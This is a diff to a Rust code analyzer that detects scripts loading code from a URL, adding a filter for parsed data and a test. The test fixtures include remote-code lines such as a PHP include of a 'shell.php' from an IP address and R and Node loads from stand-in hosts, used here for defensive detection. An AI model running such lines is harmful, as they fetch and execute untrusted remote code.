@@ -457,6 +457,11 @@ pub(crate) fn analyze(lang: &str, code: &str) -> InlineFindings {
         "load(",
     ] {
         for seg in call_segments(code, marker) {
+            // The URL is the argument itself, not something handed to another call
+            // (`json.load(urlopen("https://…"))` parses data; it runs nothing).
+            if !seg.trim_start().starts_with(['\'', '"', '`']) {
+                continue;
+            }
             if let Some(url) = string_literals(seg)
                 .into_iter()
                 .next()
@@ -2207,6 +2212,34 @@ mod tests {
         assert!(f.opaque);
         let f = analyze("groovy", "task hello { doLast { println 'hi' } }");
         assert!(f.shell_commands.is_empty() && !f.opaque);
+    }
+
+    #[test]
+    fn code_loaded_from_a_url() {
+        for (lang, code, runs) in [
+            ("Rscript", "source('https://x.example/setup.R')", true),
+            ("php", "include('http://203.0.113.5/shell.php');", true),
+            ("node", "await import('https://x.example/m.mjs')", true),
+            // Data fetched and parsed: nothing from the URL runs.
+            (
+                "python3",
+                "import urllib.request,json; print(json.load(urllib.request.urlopen('https://pypi.org/pypi/requests/json'))['info'])",
+                false,
+            ),
+            (
+                "python3",
+                "import yaml, requests; yaml.safe_load(requests.get('https://x.example/c.yml').text)",
+                false,
+            ),
+        ] {
+            let f = analyze(lang, code);
+            assert_eq!(
+                f.shell_commands.iter().any(|c| c.starts_with("curl -fsSL")),
+                runs,
+                "{code}: {:?}",
+                f.shell_commands
+            );
+        }
     }
 
     #[test]
